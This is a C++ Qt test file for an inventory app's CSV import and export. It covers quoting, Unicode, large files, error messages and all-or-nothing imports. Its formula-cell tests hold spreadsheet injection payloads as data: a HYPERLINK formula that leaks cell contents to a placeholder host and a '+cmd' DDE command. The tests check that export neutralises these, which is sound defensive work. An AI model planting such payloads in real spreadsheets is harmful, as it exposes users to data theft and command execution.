#include "Controls.h"
#include "ScriptedPrompts.h"
#include "TestFolder.h"
#include "common/AppError.h"
#include "csv/CsvTransfer.h"
#include "csv/ImportPreviewDialog.h"
#include "items/ItemRecordSet.h"

#include <QDir>
#include <QFile>
#include <QLabel>
#include <QProgressBar>
#include <QPushButton>
#include <QTableWidget>
#include <QtTest>

using namespace tv;
using tv::test::makeRow;
using tv::test::ScriptedPrompts;
using tv::test::TestFolder;

namespace {
// The nine stored values of a row, "~" for NULL, then the reorder level and quantity when either
// is set.
QString stored(const ItemRow &r)
{
    QStringList cells;
    const bool levels = r.reorderLevel || r.reorderQty;
    for (int c = 0; c < (levels ? kColumnCount : kBaseColumnCount); ++c) {
        const QVariant v = r.value(static_cast<Column>(c));
        if (!v.isValid())
            cells << QStringLiteral("~");
        else if (v.metaType() == QMetaType::fromType<Money>())
            cells << v.value<Money>().toPlain();
        else
            cells << v.toString();
    }
    return cells.join(QLatin1Char('|'));
}

QByteArray fileBytes(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly));
    QCOMPARE(f.write(bytes), bytes.size());
}

int storedCount(const QString &db)
{
    return tv::test::querySql(db, QStringLiteral("select count(*) from Items")).value(0).toInt();
}

void execSql(const QString &db, const QString &sql)
{
    const QString error = tv::test::execSql(db, {sql});
    QVERIFY2(error.isEmpty(), qPrintable(error));
}

// The preview's answer without a window: import whatever can be imported.
auto acceptWhenReady()
{
    return [](ImportScan &scan, const QString &) {
        scan.wait();
        return scan.state() == ImportScan::State::Ready && scan.plan().canImport();
    };
}

// The stored rows of a plan.
std::vector<ItemRow> unpacked(const PackedRows &rows)
{
    std::vector<ItemRow> all;
    for (size_t i = 0; i < rows.size(); ++i)
        all.push_back(rows.at(i));
    return all;
}

// A file of items whose four-byte character (a UTF-16 pair) is cut in half by the end of the
// first block the reader takes: bytesPerUnit 1 for UTF-8, 2 for UTF-16; bom its length.
QString acrossBlocks(int bytesPerUnit, int bom, int *rows)
{
    QString text = QStringLiteral("Item Number;Item Name\r\n");
    const qsizetype before = (CsvReader::kBlockBytes - 2 - bom) / bytesPerUnit;
    *rows = 0;
    while (before - text.size() > 1000)
        text += QStringLiteral("F-%1;%2\r\n").arg((*rows)++).arg(QString(500, QLatin1Char('x')));
    text += QStringLiteral("E-1;");
    text += QString(before - text.size(), QLatin1Char('y'));
    text += QStringLiteral("\U0001F529\r\n");
    ++*rows;
    return text;
}

QByteArray utf16(const QString &text, bool littleEndian)
{
    QByteArray bytes(littleEndian ? "\xFF\xFE" : "\xFE\xFF");
    for (const QChar c : text) {
        const char lo = char(c.unicode() & 0xFF), hi = char(c.unicode() >> 8);
        bytes.append(littleEndian ? lo : hi).append(littleEndian ? hi : lo);
    }
    return bytes;
}
} // namespace

class TestCsv : public QObject
{
    Q_OBJECT
private slots:
    // One stored value through export and import comes back the same.
    void trickyCells_data()
    {
        QTest::addColumn<int>("column");
        QTest::addColumn<QVariant>("value");
        const auto money = [](const char *s) {
            return QVariant::fromValue(*Money::parse(QString::fromLatin1(s)));
        };
        const std::tuple<const char *, int, QVariant> rows[] = {
            {"quotes", int(Column::ItemDesc), QStringLiteral("3\" \"deck\" screw")},
            {"comma", int(Column::ItemDesc), QStringLiteral("Bolt, hex, M8")},
            {"semicolon", int(Column::Vendor), QStringLiteral("Acme; Sons")},
            {"line breaks", int(Column::ItemDesc), QStringLiteral("two\nlines\r\nand CR LF")},
            {"only a quote", int(Column::InvNum), QStringLiteral("\"")},
            {"non-ASCII", int(Column::Vendor), QStringLiteral("Müller & Söhne — 東京 🔩")},
            {"blanks around", int(Column::ItemNum), QStringLiteral("  B-7 ")},
            {"empty text", int(Column::InvNum), QStringLiteral("")},
            {"missing text", int(Column::Vendor), QVariant()},
            {"missing count", int(Column::ItemCnt), QVariant()},
            {"missing cost", int(Column::ItemCst), QVariant()},
            {"missing date", int(Column::InvDate), QVariant()},
            {"largest count", int(Column::ItemCnt), QVariant(qlonglong(2147483647))},
            {"negative count", int(Column::ItemCnt), QVariant(qlonglong(-2147483647 - 1))},
            {"negative money", int(Column::ItemCst), money("-3.5")},
            {"four decimals", int(Column::ItemCst), money("0.0001")},
            {"huge money", int(Column::TotItemCst), money("922337203685477.5807")},
            {"huge negative money", int(Column::TotItemCst), money("-922337203685477.5807")},
            {"leap day", int(Column::InvDate), QStringLiteral("2024-02-29")},
            {"picture path with comma", int(Column::Image), QStringLiteral("/home/shop/pics/a,b.png")},
            {"reorder level", int(Column::ReorderLevel), QVariant(qlonglong(10))},
            {"order quantity of none", int(Column::ReorderQty), QVariant(qlonglong(0))},
        };
        for (const auto &[name, column, value] : rows)
            QTest::newRow(name) << column << value;
    }
    void trickyCells()
    {
        QFETCH(int, column);
        QFETCH(QVariant, value);
        ItemRow row = makeRow(QStringLiteral("Bolt"), QStringLiteral("B-1"), 3, QStringLiteral("1.25"),
                              QStringLiteral("Acme"), QStringLiteral("2024-03-07"), QStringLiteral("INV-9"));
        row.setValue(static_cast<Column>(column), value);
        const QByteArray csv = itemsToCsv({row, row});
        QVERIFY(csv.startsWith("ItemDesc,ItemNum,ItemCnt,ItemCst,TotItemCst,Image,InvNum,Vendor,InvDate,"
                               "ReorderLevel,ReorderQty\r\n"));
        const ImportPlan plan = planImport(csv, {});
        QVERIFY2(plan.problems.empty(), plan.problems.empty() ? "" : qPrintable(plan.problems.front().why));
        QCOMPARE(plan.rows.size(), size_t(2));
        QCOMPARE(stored(plan.rows.at(0)), stored(row));
        QCOMPARE(stored(plan.rows.at(1)), stored(row));
        QCOMPARE((std::vector<int>{plan.rows.sourceRow(0), plan.rows.sourceRow(1)}),
                 (std::vector<int>{2, 3}));
    }

    // A text a spreadsheet would run as a formula is written with a leading apostrophe, which
    // import takes away again; numbers and money stay numbers.
    void formulaCells_data()
    {
        QTest::addColumn<int>("column");
        QTest::addColumn<QVariant>("value");
        QTest::addColumn<QByteArray>("cell");
        const auto text = [](const char *s) { return QVariant(QString::fromUtf8(s)); };
        const std::tuple<const char *, int, QVariant, const char *> rows[] = {
            {"hyperlink in the name", int(Column::ItemDesc), text("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
             "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
            {"command in the number", int(Column::ItemNum), text("+cmd|' /C calc'!A0"),
             "'+cmd|' /C calc'!A0"},
            {"function in the invoice", int(Column::InvNum), text("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
            {"minus in the vendor", int(Column::Vendor), text("-2+3"), "'-2+3"},
            {"leading tab", int(Column::ItemDesc), text("\t=1"), "'\t=1"},
            {"leading carriage return", int(Column::ItemDesc), text("\r=1"), "\"'\r=1\""},
            {"picture path", int(Column::Image), text("=cmd"), "'=cmd"},
            {"apostrophe already there", int(Column::Vendor), text("'=1"), "''=1"},
            {"plain apostrophe untouched", int(Column::Vendor), text("'quoted'"), "'quoted'"},
            {"minus inside untouched", int(Column::ItemNum), text("A-1"), "A-1"},
            {"negative cost stays a number", int(Column::ItemCst),
             QVariant::fromValue(*Money::parse(QStringLiteral("-3.5"))), "-3.5"},
            {"negative count stays a number", int(Column::ItemCnt), QVariant(qlonglong(-5)), "-5"},
        };
        for (const auto &[name, column, value, cell] : rows)
            QTest::newRow(name) << column << value << QByteArray(cell);
    }
    void formulaCells()
    {
        QFETCH(int, column);
        QFETCH(QVariant, value);
        QFETCH(QByteArray, cell);
        TestFolder folder;
        ItemRow row = makeRow(QStringLiteral("Bolt"), QStringLiteral("B-1"), 3, QStringLiteral("1.25"),
                              QStringLiteral("Acme"), QStringLiteral("2024-03-07"), QStringLiteral("INV-9"));
        row.setValue(static_cast<Column>(column), value);
        row.totItemCst.reset();
        const QString path = folder.file(QStringLiteral("formulas.csv"));
        exportItemsCsv({row}, path);
        const QByteArray written = fileBytes(path);
        // The data line holds the cell exactly, between delimiters.
        const QByteArray data = written.mid(written.indexOf('\n') + 1);
        QVERIFY2(data.startsWith(cell + ',') || data.contains(',' + cell + ',') ||
                     data.contains(',' + cell + "\r\n"),
                 data.constData());
        ItemRecordSet rs(folder.databasePath());
        rs.open();
        ScriptedPrompts prompts;
        CsvTransfer importer(rs, {{}, acceptWhenReady(), {}});
        QVERIFY(importer.importPath(path));
        QCOMPARE(rs.recordCount(), 1);
        // Every value back as it was (the total is left to the store).
        for (const ColumnInfo &c : kColumns)
            if (c.column != Column::TotItemCst) QCOMPARE(rs.row(0).value(c.column), row.value(c.column));
    }

    // Files made by spreadsheets: what is stored, or every problem as row:column:text:why.
    void spreadsheetFiles_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QStringList>("expected");
        QTest::addColumn<int>("existing");
        const QString none;
        QTest::newRow("captions, semicolons, BOM, any order and case")
            << QByteArray(
                   "\xEF\xBB\xBFinvoice date;VENDOR NAME;Item Number;Item Name;Unit Cost;Amount In Stock\n"
                   "3/7/2024;Acme;b-1;Bolt;$1,234.50;2\n")
            << QStringList{"Bolt|b-1|2|1234.5|2469|0|~|Acme|2024-03-07"} << 1;
        QTest::newRow("column names, ISO dates, given total kept, CR LF")
            << QByteArray(
                   "ItemNum,TotItemCst,ItemCst,ItemCnt,InvDate,Image,InvNum\r\nX9,1,2,3,2024-12-31,0,I-1\r\n")
            << QStringList{"~|X9|3|2|1|0|I-1|~|2024-12-31"} << 0;
        QTest::newRow("labels, unknown column ignored, blank lines skipped")
            << QByteArray("Item ID:,Unit Count:,Unit Cost:,Notes\n\nQ-1,\"1,000\",-$0.50,fragile\n\n")
            << QStringList{"~|Q-1|1000|-0.5|-500|0|~|~|~"} << 0;
        QTest::newRow("every problem of every row")
            << QByteArray("Item Number,Amount In Stock,Unit Cost,Invoice Date\n"
                          "A,2.5,abc,2/30/2024\n"
                          ",1,zz,\n"
                          "B,99999999999,\"12,50\",13/1/2024\n"
                          "C,1,1,1/1/2024,extra\n"
                          "D,1,\"$99,999,999,999,999,999\",2024-1-2\n")
            << QStringList{"2:Amount In Stock:2.5:not a whole number",
                           "2:Unit Cost:abc:not an amount of money",
                           "2:Invoice Date:2/30/2024:not a real date (write it as M/d/yyyy or YYYY-MM-DD)",
                           "3:Unit Cost:zz:not an amount of money",
                           "3:Item Number::missing item number",
                           "4:Amount In Stock:99999999999:too large for a count of units",
                           "4:Unit Cost:12,50:not an amount of money",
                           "4:Invoice Date:13/1/2024:not a real date (write it as M/d/yyyy or YYYY-MM-DD)",
                           "5:column 5:extra:more cells than the first row names columns",
                           "6:Unit Cost:$99,999,999,999,999,999:an amount too large to keep"}
            << 0;
        QTest::newRow("reorder level and quantity, by name and by caption")
            << QByteArray("ItemNum,ItemCnt,Reorder At,ReorderQty\nR-1,4,10,\nR-2,9,,24\n")
            << QStringList{"~|R-1|4|~|~|0|~|~|~|10|~", "~|R-2|9|~|~|0|~|~|~|~|24"} << 0;
        QTest::newRow("a level or quantity below none")
            << QByteArray("ItemNum,ReorderLevel,ReorderQty\nR-1,-1,2\nR-2,1,-3\n")
            << QStringList{"2:ReorderLevel:-1:below 0", "3:ReorderQty:-3:below 0"} << 0;
        QTest::newRow("total of too many units")
            << QByteArray("ItemNum,ItemCnt,ItemCst\nZ,2000000000,900000000\n")
            << QStringList{"2:ItemCst:900000000:the total value of this many units is too large to keep"}
            << 0;
    }
    void spreadsheetFiles()
    {
        QFETCH(QByteArray, csv);
        QFETCH(QStringList, expected);
        QFETCH(int, existing);
        const std::vector<ItemRow> table{makeRow(QStringLiteral("Old"), QStringLiteral("B-1")),
                                         makeRow(QStringLiteral("Older"), QStringLiteral("b-2"))};
        const ImportPlan plan = planImport(csv, table);
        QStringList got;
        for (const CsvProblem &p : plan.problems)
            got << QStringLiteral("%1:%2:%3:%4").arg(p.row).arg(p.column, p.text, p.why);
        if (plan.problems.empty())
            for (const ItemRow &r : unpacked(plan.rows))
                got << stored(r);
        QCOMPARE(got, expected);
        QCOMPARE(plan.existingNumbers, existing);
        QCOMPARE(plan.canImport(), plan.problems.empty());
    }

    // Export then import into an empty database gives identical rows, shown by the record set.
    void roundTripThroughFiles()
    {
        TestFolder from;
        std::vector<ItemRow> rows;
        for (int i = 0; i < 300; ++i)
            rows.push_back(makeRow(QStringLiteral("Item \"%1\", size\n%2").arg(i).arg(i % 7),
                                   QStringLiteral("N-%1").arg(i), i - 50,
                                   QStringLiteral("%1.%2").arg(i).arg(i % 10000),
                                   i % 3 ? QStringLiteral("Vendör %1").arg(i % 5) : QString(),
                                   i % 4 ? QStringLiteral("2023-%1-%2")
                                               .arg(i % 12 + 1, 2, 10, QLatin1Char('0'))
                                               .arg(i % 28 + 1, 2, 10, QLatin1Char('0'))
                                         : QString(),
                                   i % 2 ? QStringLiteral("") : QStringLiteral("INV;%1").arg(i)));
        rows[5].image = QString();
        rows[6].itemCst.reset();
        from.addRows(rows);
        ItemRecordSet source(from.databasePath());
        source.open();
        const QString csvPath = from.file(QStringLiteral("items.csv"));
        ScriptedPrompts prompts;
        prompts.fileAnswer(csvPath);
        CsvTransfer exporter(source, {});
        QVERIFY(exporter.exportAll());
        QCOMPARE(prompts.last().text, QStringLiteral("300 items were exported to 'items.csv'."));

        TestFolder to;
        ItemRecordSet target(to.databasePath());
        target.open();
        int previews = 0, refreshed = 0;
        CsvTransfer importer(target, {{},
                                      [&](ImportScan &scan, const QString &path) {
                                          ++previews;
                                          return acceptWhenReady()(scan, path);
                                      },
                                      [&] { ++refreshed; }});
        QVERIFY(importer.importPath(csvPath));
        QCOMPARE(previews, 1);
        QCOMPARE(refreshed, 1);
        QCOMPARE(target.recordCount(), 300);
        QCOMPARE(target.position(), 0);
        QCOMPARE(storedCount(to.databasePath()), 300);
        ItemRecordSet reread(to.databasePath());
        reread.open();
        for (int i = 0; i < 300; ++i)
            QCOMPARE(stored(reread.row(i)), stored(source.row(i)));
        // A second import adds after the rows already there and counts their numbers.
        int existing = -1;
        CsvTransfer again(target, {{},
                                   [&](ImportScan &scan, const QString &) {
                                       scan.wait();
                                       existing = scan.plan().existingNumbers;
                                       return true;
                                   },
                                   {}});
        QVERIFY(again.importPath(csvPath));
        QCOMPARE(existing, 300);
        QCOMPARE(target.recordCount(), 600);
        QCOMPARE(target.position(), 300);
    }

    // Nothing is written when any row has a problem, the preview is cancelled, or the engine
    // refuses a row in the middle.
    void nothingWritten_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<bool>("accept");
        QTest::addColumn<bool>("failMidway");
        const QByteArray good = "ItemNum,ItemDesc\nA,one\nB,two\nBOOM,three\nC,four\n";
        QTest::newRow("a problem in the last row")
            << QByteArray("ItemNum,ItemCnt\nA,1\nB,2\nC,x\n") << true << false;
        QTest::newRow("preview cancelled") << good << false << false;
        QTest::newRow("engine refuses row 4") << good << true << true;
    }
    void nothingWritten()
    {
        QFETCH(QByteArray, csv);
        QFETCH(bool, accept);
        QFETCH(bool, failMidway);
        TestFolder folder;
        folder.addRows({makeRow(QStringLiteral("Kept"), QStringLiteral("K-1"))});
        if (failMidway)
            execSql(folder.databasePath(),
                    QStringLiteral("create trigger refuse before insert on Items when new.ItemNum = 'BOOM' "
                                   "begin select raise(abort, 'disk says no'); end"));
        const QString path = folder.file(QStringLiteral("in.csv"));
        writeFile(path, csv);
        ItemRecordSet rs(folder.databasePath());
        rs.open();
        ScriptedPrompts prompts;
        bool previewed = false;
        CsvTransfer importer(rs, {{},
                                  [&](ImportScan &scan, const QString &) {
                                      scan.wait();
                                      return previewed = true, accept;
                                  },
                                  {}});
        if (failMidway) {
            try {
                importer.importPath(path);
                QFAIL("the refused row went unnoticed");
            } catch (const AppError &e) {
                QVERIFY2(e.description().contains(QLatin1String("disk says no")),
                         qPrintable(e.description()));
                QVERIFY(e.description().contains(QLatin1String("Nothing was imported")));
            }
        } else {
            QVERIFY(!importer.importPath(path));
        }
        QVERIFY(previewed);
        QCOMPARE(storedCount(folder.databasePath()), 1);
        QCOMPARE(rs.recordCount(), 1);
    }

    // A file that is not CSV at all gets a clear message and writes nothing.
    void notCsv_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("why");
        QByteArray png("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
        QTest::newRow("binary") << png << "It holds binary data, not text. Choose a file saved as CSV.";
        QTest::newRow("empty") << QByteArray() << "The file is empty.";
        QTest::newRow("only a byte-order mark and blanks")
            << QByteArray("\xEF\xBB\xBF \r\n\n") << "The file is empty.";
        QTest::newRow("not UTF-8")
            << QByteArray("ItemNum\nM\xFC"
                          "ller\n")
            << "It is not UTF-8 text. Save it from the spreadsheet as \"CSV UTF-8\" and "
               "import that file.";
        QTest::newRow("no item number column")
            << QByteArray("Dear customer,\nthank you for your order.\n")
            << "Its first row names no item number column. The first row must name the columns, such as "
               "ItemNum or \"Item Number\".";
        QTest::newRow("header only") << QByteArray("ItemNum,ItemDesc\r\n")
                                     << "It holds no items, only the row of column names.";
        QTest::newRow("quote never closed") << QByteArray("ItemNum,ItemDesc\nA,\"open\nB,x\n")
                                            << "The quoted cell that starts in row 2 is never closed.";
        QTest::newRow("column twice") << QByteArray("Item Number,ItemNum\nA,B\n")
                                      << "The columns \"Item Number\" and \"ItemNum\" both hold ItemNum.";
    }
    void notCsv()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, why);
        TestFolder folder;
        const QString path = folder.file(QStringLiteral("picked.csv"));
        writeFile(path, bytes);
        ItemRecordSet rs(folder.databasePath());
        rs.open();
        ScriptedPrompts prompts;
        prompts.fileAnswer(path);
        bool previewed = false;
        CsvTransfer importer(rs, {{},
                                  [&](ImportScan &scan, const QString &) {
                                      scan.wait();
                                      return previewed = scan.state() == ImportScan::State::Ready;
                                  },
                                  {}});
        QVERIFY(!importer.importFile());
        QVERIFY(!previewed);
        QCOMPARE(prompts.last().text, QStringLiteral("Tallyvane cannot import 'picked.csv'. ") + why);
        QCOMPARE(prompts.last().icon, MsgIcon::Stop);
        QCOMPARE(prompts.last().title, QStringLiteral("Import"));
        QCOMPARE(storedCount(folder.databasePath()), 0);
    }

    // An export that cannot be written leaves the file it would have replaced as it was.
    void failedExportLeavesTheOldFile()
    {
        TestFolder folder;
        const QString path = folder.file(QStringLiteral("out.csv"));
        writeFile(path, "old contents\n");
        const std::vector<ItemRow> rows{makeRow(QStringLiteral("A"), QStringLiteral("1"))};
        // A folder that does not exist, and (unless running as root) one that may not be written.
        QVERIFY_THROWS_EXCEPTION(AppError,
                                 exportItemsCsv(rows, folder.file(QStringLiteral("missing/out.csv"))));
        QVERIFY(!QFile::exists(folder.file(QStringLiteral("missing"))));
        QVERIFY(QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::ExeOwner));
        const bool denied = !QFile(folder.file(QStringLiteral("probe"))).open(QIODevice::WriteOnly);
        if (denied) QVERIFY_THROWS_EXCEPTION(AppError, exportItemsCsv(rows, path));
        QVERIFY(QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        QCOMPARE(fileBytes(path), QByteArray("old contents\n"));
        exportItemsCsv(rows, path);
        QCOMPARE(fileBytes(path), itemsToCsv(rows));
        QCOMPARE(QDir(folder.path()).entryList(QDir::Files).filter(QStringLiteral("out.csv")),
                 QStringList{QStringLiteral("out.csv")});
    }

    // The preview lists the first rows as stored and every problem; Import only without problems.
    void previewWindow_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<bool>("importable");
        QByteArray many("Item Number,Unit Cost,Invoice Date\n");
        for (int i = 0; i < 30; ++i)
            many += QByteArray("N") + QByteArray::number(i) + ",\"1,234.5\",2024-03-07\n";
        QTest::newRow("30 good rows") << many << true;
        QTest::newRow("one problem") << QByteArray(many).append("N30,x,2024-03-07\n") << false;
    }
    void previewWindow()
    {
        QFETCH(QByteArray, csv);
        QFETCH(bool, importable);
        TestFolder folder(false);
        const QString path = folder.file(QStringLiteral("shop.csv"));
        writeFile(path, csv);
        ImportScan scan(path, {});
        ImportPreviewDialog preview(scan, path);
        QTRY_COMPARE(scan.state(), ImportScan::State::Ready);
        QTRY_COMPARE(control<QPushButton>(preview, "cmdImport")->isEnabled(), importable);
        const QTableWidget *rows = control<QTableWidget>(preview, "grdRows");
        QCOMPARE(rows->rowCount(), ImportPreviewDialog::kPreviewRows);
        QCOMPARE(rows->item(0, 2)->text(), QStringLiteral("N0"));
        QCOMPARE(rows->item(0, 4)->text(), QStringLiteral("$1,234.50"));
        QCOMPARE(rows->item(0, 7)->text(), QStringLiteral("3/7/2024"));
        const QTableWidget *problems = control<QTableWidget>(preview, "grdProblems");
        QCOMPARE(problems->rowCount(), importable ? 0 : 1);
        if (!importable) QCOMPARE(problems->item(0, 0)->text(), QStringLiteral("32"));
        QVERIFY(control<QLabel>(preview, "lblSummary")
                    ->text()
                    .startsWith(QStringLiteral("shop.csv: 30 items ready to import, 0 of them")));
    }

    // A large file is read on a thread of its own in blocks, with progress and Cancel in the
    // preview; only the first problems are listed; a UTF-16 file is read, a character cut by the
    // end of a block too.
    void largeAndUnicodeFiles_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<bool>("cancel");
        QTest::addColumn<int>("listed");
        QTest::addColumn<QString>("summary");
        QTest::addColumn<int>("stored");
        int rows = 0;
        const QString utf8 = acrossBlocks(1, 3, &rows);
        QTest::newRow("UTF-8, a character across blocks")
            << QByteArray("\xEF\xBB\xBF").append(utf8.toUtf8()) << false << 0
            << QString("items ready to import") << rows;
        const QString wide = acrossBlocks(2, 2, &rows);
        QTest::newRow("UTF-16 LE, a character across blocks")
            << utf16(wide, true) << false << 0 << QString("items ready to import") << rows;
        QTest::newRow("UTF-16 BE, a character across blocks")
            << utf16(wide, false) << false << 0 << QString("items ready to import") << rows;
        QTest::newRow("UTF-16 LE, small")
            << utf16(QStringLiteral("Item Number,Item Name\r\nA-1,\"Müller, \"\"东京\"\"\"\r\n"), true)
            << false << 0 << QString("1 item ready to import") << 1;
        QByteArray bad("Item Number,Amount In Stock\n");
        for (int i = 0; i < 3000; ++i)
            bad += "N" + QByteArray::number(i) + ",x\n";
        QTest::newRow("3000 bad rows")
            << bad << false << 1000
            << QString(
                   "3000 problems must be fixed in the file first: the first 1000 are below, 2000 more are "
                   "not listed.")
            << 0;
        QByteArray large("Item Number,Item Name,Unit Cost\n");
        for (int i = 0; large.size() < 24 << 20; ++i)
            large += "L-" + QByteArray::number(i) + ",A rather long name of an item,12.50\n";
        QTest::newRow("Escape while reading 24 MB") << large << true << 0 << QString("Reading big.csv") << 0;
    }
    void largeAndUnicodeFiles()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(bool, cancel);
        QFETCH(int, listed);
        QFETCH(QString, summary);
        QFETCH(int, stored);
        TestFolder folder;
        const QString path = folder.file(QStringLiteral("big.csv"));
        writeFile(path, bytes);
        bytes.clear();
        ItemRecordSet rs(folder.databasePath());
        rs.open();
        ScriptedPrompts prompts;
        int shownProblems = -1, progressWhileReading = -1;
        bool active = false, over = false;
        QString shownSummary;
        auto end = ImportScan::State::Reading;
        CsvTransfer importer(
            rs, {{},
                 [&](ImportScan &scan, const QString &file) {
                     ImportPreviewDialog window(scan, file);
                     window.show();
                     window.activateWindow();
                     active = QTest::qWaitForWindowActive(&window);
                     if (cancel) {
                         over = QTest::qWaitFor(
                             [&] { return control<QProgressBar>(window, "prgRead")->value() > 0; });
                         if (scan.state() == ImportScan::State::Reading)
                             progressWhileReading = control<QProgressBar>(window, "prgRead")->value();
                         shownSummary = control<QLabel>(window, "lblSummary")->text();
                         QTest::keyClick(window.windowHandle(), Qt::Key_Escape);
                     } else {
                         over = QTest::qWaitFor([&] { return scan.state() != ImportScan::State::Reading; });
                         shownProblems = control<QTableWidget>(window, "grdProblems")->rowCount();
                         shownSummary = control<QLabel>(window, "lblSummary")->text();
                         QPushButton *import = control<QPushButton>(window, "cmdImport");
                         QTest::mouseClick(import->isEnabled() ? import
                                                               : control<QPushButton>(window, "cmdCancel"),
                                           Qt::LeftButton);
                     }
                     end = scan.state();
                     return window.result() == QDialog::Accepted;
                 },
                 {}});
        QCOMPARE(importer.importPath(path), stored > 0);
        QVERIFY(active);
        QVERIFY(over);
        QVERIFY2(shownSummary.contains(summary), qPrintable(shownSummary));
        if (cancel) {
            QVERIFY(progressWhileReading > 0 && progressWhileReading < 100);
            QCOMPARE(end, ImportScan::State::Cancelled);
        } else {
            QCOMPARE(end, ImportScan::State::Ready);
            QCOMPARE(shownProblems, listed);
        }
        QCOMPARE(storedCount(folder.databasePath()), stored);
        if (stored > 1)
            QCOMPARE(tv::test::querySql(folder.databasePath(),
                                        QStringLiteral("select count(*) from Items where ItemNum = 'E-1' and "
                                                       "ItemDesc like '%y\U0001F529'"))
                         .value(0),
                     QStringLiteral("1"));
    }
};

QTEST_MAIN(TestCsv)
#include "tst_csv.moc"
